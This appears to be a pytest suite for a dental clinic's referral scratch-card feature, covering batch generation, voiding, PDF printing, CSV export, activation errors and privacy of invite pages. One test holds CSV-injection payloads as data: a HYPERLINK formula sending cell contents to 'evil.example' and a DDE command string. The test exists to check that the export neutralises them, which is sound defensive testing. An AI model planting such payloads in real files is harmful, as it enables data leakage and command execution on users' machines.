    assert (after["patients"], after["referrals"], after["vouchers"]) == (
        before["patients"] + 1, before["referrals"] + 1, before["vouchers"] + 2)
    assert db.session.scalar(select(func.count()).select_from(Referral).where(Referral.card_id == activated.id)) == 1


def test_voiding_a_batch_spares_redeemed_cards(chinese_clinic, actor, referrer, manager_user):
    batch = generate(4, actor)
    used, *_ = db.session.scalars(select(Card).where(Card.batch_id == batch.id).order_by(Card.id)).all()
    cards.activate_card(used.serial, referrer.id, actor)
    redemption.redeem_code(used.code, friend(), actor)
    count = cards.void_batch(batch.id, "Box lost in transit", Actor(staff_id=manager_user.id))
    assert count == 3
    statuses = sorted(db.session.scalars(select(Card.status).where(Card.batch_id == batch.id)))
    assert statuses == ["redeemed", "void", "void", "void"]
    with pytest.raises(Refused):
        cards.void_batch(batch.id, "", Actor(staff_id=manager_user.id))


def test_a_batch_voided_before_it_was_printed_prints_only_void_cards(chinese_clinic, actor, referrer, manager_user):
    """Voided while queued (a mistake seen at once): the job that prints it later must not bring its cards to life."""
    batch = cards.create_batch(2, "classic", False, actor)
    assert cards.void_batch(batch.id, "Wrong campaign", Actor(staff_id=manager_user.id)) == 0
    cards.run_batch(batch.id)
    printed = db.session.scalars(select(Card).where(Card.batch_id == batch.id)).all()
    assert [(card.status, card.void_reason) for card in printed] == [("void", "Wrong campaign")] * 2
    with pytest.raises(Refused):
        cards.activate_card(printed[0].serial, referrer.id, actor)


def test_the_serials_csv_has_serials_but_never_codes(chinese_clinic, actor):
    batch = generate(3, actor)
    text = cards.serials_csv(batch.id)
    assert text.startswith("\ufeffserial,status")
    for serial, code in db.session.execute(select(Card.serial, Card.code)):
        assert serial in text and code not in text


FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'


def test_void_reasons_in_the_serials_csv_are_text_not_formulas(manager, chinese_clinic, actor):
    """A manager types the reasons: in the stock-control file they must read as text, never run in Excel."""
    batch = generate(3, actor)
    first = db.session.scalars(select(Card.serial).where(Card.batch_id == batch.id).order_by(Card.id)).first()
    assert manager.post("/cards/void", {"serial": first, "reason": FORMULA_REASON}).status_code == 303
    assert manager.post(f"/cards/batches/{batch.id}/void", {"reason": "@SUM(1+1)*cmd|' /C calc'!A0"}).status_code == 303
    response = manager.get(f"/cards/batches/{batch.id}/serials.csv")
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0] == ["serial", "status", "activated", "redeemed", "void reason"]
    assert [row[4] for row in rows[1:]] == ["'" + FORMULA_REASON] + ["'@SUM(1+1)*cmd|' /C calc'!A0"] * 2
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_creating_batches_through_the_web_runs_in_the_background(manager, chinese_clinic, tmp_path):
    response = manager.post("/cards/batches", {"size": "25", "design": "minimal", "bleed": "yes"})
    assert response.status_code == 303
    page = manager.get(response.headers["Location"]).get_data(as_text=True)
    assert 'id="batch-status"' in page
    jobs.wait_for_all()
    status = manager.get(response.headers["Location"], htmx=True).get_data(as_text=True)
    assert status.lstrip().startswith('<section id="batch-status"') and "hx-trigger" not in status
    assert "25 cards are ready" in status
    batch = db.session.scalar(select(CardBatch))
    pdf = manager.get(f"/cards/batches/{batch.id}/cards.pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF")
    assert manager.get(f"/cards/batches/{batch.id}/serials.csv").status_code == 200
    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "card_batch.generated")) is not None


def test_a_running_batch_page_polls_itself(manager, chinese_clinic, manager_user):
    batch = cards.create_batch(10, "classic", False, Actor(staff_id=manager_user.id))
    fragment = manager.get(f"/cards/batches/{batch.id}", htmx=True).get_data(as_text=True)
    assert 'hx-trigger="every 700ms"' in fragment and "<progress" in fragment


@pytest.mark.parametrize("form, message", [
    ({"size": "0", "design": "classic"}, "1 to 10,000"),
    ({"size": "10001", "design": "classic"}, "1 to 10,000"),
    ({"size": "abc", "design": "classic"}, "number of cards"),
    ({"size": "", "design": "classic"}, "number of cards"),
    ({"size": "-5", "design": "classic"}, "number of cards"),
    ({"size": "10", "design": "<script>"}, "Pick one of the card designs"),
])
def test_bad_batch_requests_are_refused(manager, chinese_clinic, form, message):
    response = manager.post("/cards/batches", form)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(CardBatch)) == 0


def test_desk_staff_cannot_manage_batches(desk, chinese_clinic):
    assert desk.get("/cards/").status_code == 403
    assert desk.post("/cards/batches", {"size": "5", "design": "classic"}).status_code == 403


def test_the_cards_page_shows_the_offer_new_cards_carry_and_a_preview_of_one(manager, desk, chinese_clinic, tmp_path):
    """A manager about to print a thousand cards sees what they will say, in the card's own words, first."""
    set_campaign(friend_reward_stage="visit")
    page = html.unescape(manager.get("/cards/").get_data(as_text=True))
    offer = re.search(r'id="card-offer">(.*?)</div>', page, re.S).group(1)
    assert "the campaign “Bring a friend”" in offer
    assert re.search(r"Your friend gets <strong>1 bed-day waived \(gift pack\)</strong> at their first visit", offer)
    assert re.search(r"You get <strong>¥200 meal voucher</strong>\s*</p>", offer)  # paid at once: nothing after
    for design in cards.DESIGNS:
        assert f'href="/cards/preview/{design}.pdf"' in offer

    preview = manager.get("/cards/preview/bold.pdf")
    assert preview.status_code == 200 and preview.mimetype == "application/pdf"
    assert preview.headers["Cache-Control"] == "no-store"
    path = tmp_path / "preview.pdf"
    path.write_bytes(preview.get_data())
    text = " ".join(pdf_text(path).split())
    assert "1 bed-day waived (gift pack) at their first visit" in text and "港湾口腔 Harbour Dental" in text
    assert db.session.scalar(select(func.count()).select_from(CardBatch)) == 0  # a preview prints no batch

    nonsense = manager.get("/cards/preview/%3Cscript%3E.pdf")
    assert nonsense.status_code == 404 and "Pick one of the card designs" in nonsense.get_data(as_text=True)
    assert desk.get("/cards/preview/classic.pdf").status_code == 403


def test_without_a_campaign_for_cards_the_cards_page_says_so_and_nothing_previews(manager, chinese_clinic):
    set_campaign(covers="personal")
    page = " ".join(manager.get("/cards/").get_data(as_text=True).split())
    assert 'No running campaign covers scratch cards, and cards print its offer: <a href="/admin/campaigns">' in page
    assert 'href="/cards/preview/' not in page
    preview = manager.get("/cards/preview/classic.pdf")
    assert preview.status_code == 409 and "No running campaign covers scratch cards" in preview.get_data(as_text=True)


def test_the_batches_list_counts_the_cards_handed_out_and_brought_back(manager, chinese_clinic, actor, referrer):
    batch = generate(4, actor)
    serials = db.session.scalars(select(Card.serial).where(Card.batch_id == batch.id).order_by(Card.id)).all()
    first, _second = (cards.activate_card(serial, referrer.id, actor) for serial in serials[:2])
    redemption.redeem_code(first.code, friend(), actor)
    generate(2, actor)  # another batch, untouched
    page = manager.get("/cards/").get_data(as_text=True)
    rows = {label: re.findall(r'<td class="num">([\d,]+)</td>', row)
            for label, row in re.findall(r'>(B\d{3})</a></td>(.*?)</tr>', page, re.S)}
    assert rows == {batch.label: ["4", "2", "1"], "B002": ["2", "0", "0"]}


def test_a_nurse_activates_a_card_from_the_patient_page(desk, chinese_clinic, actor, referrer):
    batch = generate(1, actor)
    serial = db.session.scalar(select(Card.serial).where(Card.batch_id == batch.id))
    response = desk.post(f"/cards/activate/{referrer.id}", {"serial": serial})
    assert response.status_code == 303
    page = desk.get(f"/patients/{referrer.id}").get_data(as_text=True)
    assert serial in page and "activated" in page
    again = desk.post(f"/cards/activate/{referrer.id}", {"serial": serial})
    assert again.status_code == 409 and serial_error(again) == f"Card {serial} is already activated."
    assert desk.post("/cards/activate/99999", {"serial": serial}).status_code == 404


def serial_error(response) -> str | None:
    """The message under the serial field of the patient's page."""
    found = re.search(r'<p class="field-error" id="serial-error" role="alert">([^<]*)</p>',
                      response.get_data(as_text=True))
    return html.unescape(found.group(1)) if found else None


@pytest.mark.parametrize("typed, status, message", [
    ("B001-00O3X", 422, "A serial looks like B007-0042"),  # a letter O typed for a zero, and a stray X
    ("B001-0001", 409, "Card B001-0001 is already activated."),
    ("B999-0001", 404, "No card has this serial or code."),
])
def test_a_refused_activation_is_said_under_the_serial_which_is_kept(desk, chinese_clinic, actor, referrer,
                                                                     typed, status, message):
    """A refusal used to be a flash at the top of the page after a redirect to the card box below: out of sight,
    with the serial field empty, as if nothing had happened."""
    batch = generate(2, actor)
    first = db.session.scalar(select(Card.serial).where(Card.batch_id == batch.id).order_by(Card.id))
    assert first == "B001-0001"
    cards.activate_card(first, referrer.id, actor)
    before = db.session.execute(select(Card.serial, Card.status, Card.patient_id).order_by(Card.id)).all()
    response = desk.post(f"/cards/activate/{referrer.id}", {"serial": typed})
    assert response.status_code == status
    page = response.get_data(as_text=True)
    assert serial_error(response).startswith(message)
    assert re.search(rf'<input id="serial" name="serial" type="text" value="{typed}"[^>]* aria-invalid="true"'
                     r'[^>]* autofocus>', page)
    assert 'role="status"' not in page and "Wang Li" in page  # no flash: the patient's page, said at the field
    assert db.session.execute(select(Card.serial, Card.status, Card.patient_id).order_by(Card.id)).all() == before


def test_a_personal_card_refused_is_said_under_the_design(desk, chinese_clinic, referrer, monkeypatch):
    response = desk.post(f"/cards/personal/{referrer.id}", {"design": "glitter"})
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert re.search(r'<p class="field-error" id="card-design-error" role="alert">Pick one of the card designs.</p>',
                     page)
    assert db.session.scalar(select(func.count()).select_from(CardBatch)) == 0
    monkeypatch.setattr(cards, "run_batch", lambda *args, **kwargs: False)
    failed = desk.post(f"/cards/personal/{referrer.id}", {"design": "bold"})
    assert failed.status_code == 503
    page = failed.get_data(as_text=True)
    assert 'id="card-design-error" role="alert">The card could not be printed; please try again.</p>' in page
    assert '<option value="bold" selected>' in page


def test_a_personal_discharge_card_prints_at_once_already_activated(desk, chinese_clinic, referrer, tmp_path):
    response = desk.post(f"/cards/personal/{referrer.id}", {"design": "bold"})
    assert response.status_code == 303
    pdf = desk.get(response.headers["Location"])
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    card = db.session.scalar(select(Card))
    assert (card.status, card.patient_id) == ("activated", referrer.id)
    path = tmp_path / "personal.pdf"
    path.write_bytes(pdf.data)
    assert decode_pages(path, tmp_path) == [[f"https://clinic.test/r/{card.code}"]]
    lookup = desk.post("/desk/lookup", {"code": f"https://clinic.test/r/{card.code}"}, htmx=True)
    assert "Wang L." in lookup.get_data(as_text=True) and "gift pack" in lookup.get_data(as_text=True)


@pytest.mark.parametrize("download", ["batch", "personal", "api"])
def test_card_pdfs_are_kept_by_no_browser_or_proxy(app, manager, manager_user, chinese_clinic, referrer, actor,
                                                    download):
    """They hold live bearer codes: ``no-store``, and nothing to revalidate (no ETag or Last-Modified, never 304)."""
    headers = {}
    if download == "personal":
        url = f"/cards/personal/{cards.print_personal_card(referrer.id, 'classic', actor).id}/card.pdf"
    elif download == "batch":
        url = f"/cards/batches/{generate(2, actor).id}/cards.pdf"
    else:
        url = f"/api/v1/card-batches/{generate(2, actor).id}/cards.pdf"
        token = api_tokens.create_token("HIS", ["cards:write"], Actor(staff_id=manager_user.id))[1]
        headers = {"Authorization": f"Bearer {token}"}
    first = manager.get(url, headers=dict(headers))
    assert first.status_code == 200 and first.data.startswith(b"%PDF")
    assert first.headers.getlist("Cache-Control") == ["no-store"]
    assert "ETag" not in first.headers and "Last-Modified" not in first.headers
    tomorrow = http_date(utcnow() + timedelta(days=1))
    again = manager.get(url, headers={**headers, "If-None-Match": "*", "If-Modified-Since": tomorrow})
    assert again.status_code == 200 and again.data == first.data


def test_stored_files_are_sent_only_as_private_files():
    """A new download of a stored file cannot forget ``no-store``: ``send_file`` is called in one place."""
    package = Path(cards.__file__).parents[1]
    senders = [path.relative_to(package).as_posix() for path in sorted(package.rglob("*.py"))
               if "send_file(" in path.read_text(encoding="utf-8")]
    assert senders == ["web/helpers.py"]


def test_the_invite_page_for_cards(browser, activated, actor, chinese_clinic):
    page = browser.get(f"/r/{activated.code}")
    # Wang Li did not agree to a name on posters: the card's invite page names nobody either.
    assert page.status_code == 200 and "A friend recommends" in page.get_data(as_text=True)
    assert "Wang" not in page.get_data(as_text=True)
    assert "1 bed-day waived (gift pack)" in page.get_data(as_text=True)
    printed = generate(1, actor)
    never_activated = db.session.scalar(select(Card.code).where(Card.batch_id == printed.id))
    assert browser.get(f"/r/{never_activated}").status_code == 404
    redemption.redeem_code(activated.code, friend(), actor)
    used = browser.get(f"/r/{activated.code}")
    assert used.status_code == 410 and "already been used" in used.get_data(as_text=True)


def test_a_card_s_invite_page_names_its_holder_only_with_their_consent(browser, chinese_clinic, actor, make_patient):
    holder, _ = make_patient(full_name="Ludwig van Beethoven", display_name="Ludwig v. B.", name_on_posters=True)
    batch = generate(1, actor)
    card = cards.activate_card(db.session.scalar(select(Card.serial).where(Card.batch_id == batch.id)), holder.id,
                               actor)
    page = browser.get(f"/r/{card.code}").get_data(as_text=True)
    assert "Ludwig v. B. recommends" in page and "Beethoven" not in page


def test_a_voucher_is_not_a_card_and_a_card_is_not_a_voucher(activated, actor):
    with pytest.raises(Refused) as refused:
        vouchers.spend_voucher(activated.code, actor)
    assert refused.value.reason == "unknown_code"
    assert db.session.scalar(select(func.count()).select_from(Voucher)) == 0


def test_card_sheets_embed_every_font_they_use_once(chinese_clinic, actor):
    """A print shop's RIP substitutes a font that is not embedded (Courier-Bold was not): the serials and codes
    then print in whatever it has. The monospace face is embedded once per file, as a subset."""
    batch = generate(20, actor)
    path = cards.batch_pdf_path(batch)
    fonts = embedded_fonts(path)
    assert all(embedded for _, embedded in fonts), fonts
    mono = [name for name, _ in fonts if "Mono" in name]
    assert len(mono) == 1 and re.fullmatch(r"[A-Z]{6}\+\S+", mono[0]), fonts  # one subset for the two sheets


def test_sheet_layout_fits_a4_with_and_without_bleed():
    for bleed in (False, True):
        layout = card_sheet.SheetLayout(bleed=bleed)
        for x, y in layout.card_origins():
            assert layout.margin + card_sheet.CROP_MARK_OFFSET <= x - layout.margin
            assert x + card_sheet.CARD_WIDTH + layout.margin <= card_sheet.PAGE_WIDTH
            assert 0 < y - layout.margin and y + card_sheet.CARD_HEIGHT + layout.margin < card_sheet.PAGE_HEIGHT


def test_a_job_that_stalled_and_lost_its_batch_to_a_retry_leaves_the_retry_s_cards_alone(app, actor, monkeypatch):
    """Found by fault injection: a worker paused past STALE_AFTER came back after the retry had printed the batch,
    failed it for good ("the batch was changed…") and every later retry hit the serials' unique index."""
    from sqlalchemy import update

    batch = cards.create_batch(2 * cards.PROGRESS_EVERY + 50, "classic", False, actor)
    original, retried = cards.write_card_sheets, []

    def stall_then_resume(design, printed, out, bleed, progress):
        if not retried:  # the first job stalls here: its heartbeat ages, a manager retries, another worker prints
            retried.append(True)
            with atomic():
                db.session.execute(update(CardBatch).where(CardBatch.id == batch.id)
                                   .values(heartbeat_at=utcnow() - cards.STALE_AFTER - timedelta(seconds=1)))
            cards.retry_batch(batch.id, actor)
            assert cards.run_batch(batch.id) is True
        return original(design, printed, out, bleed=bleed, progress=progress)

    monkeypatch.setattr(cards, "write_card_sheets", stall_then_resume)
    assert cards.run_batch(batch.id) is False  # the stalled job, resumed: it stops at its next report
    done = db.session.get(CardBatch, batch.id, populate_existing=True)
    assert (done.status, done.attempts, done.error) == ("done", 2, None)
    assert cards.batch_pdf_path(done) is not None
    assert db.session.scalar(select(func.count()).select_from(Card).where(Card.batch_id == batch.id)) == batch.size
    assert not list(cards.batch_folder().glob(f".batch-{batch.id}-*"))  # no half-written file left
    assert db.session.scalar(select(func.count()).select_from(AuditEvent)
                             .where(AuditEvent.action == "card_batch.failed")) == 0


def test_a_new_attempt_deletes_what_a_killed_job_left_half_written(app, actor):
    batch = cards.create_batch(3, "classic", False, actor)
    leftover = cards.batch_folder() / f".batch-{batch.id}-1-deadbeef.pdf"
    leftover.write_bytes(b"%PDF-1.7 half")
    other = cards.batch_folder() / f".batch-{batch.id + 1}-1-deadbeef.pdf"
    other.write_bytes(b"%PDF-1.7 another batch's")
    assert cards.run_batch(batch.id)
    assert not leftover.exists() and other.exists()
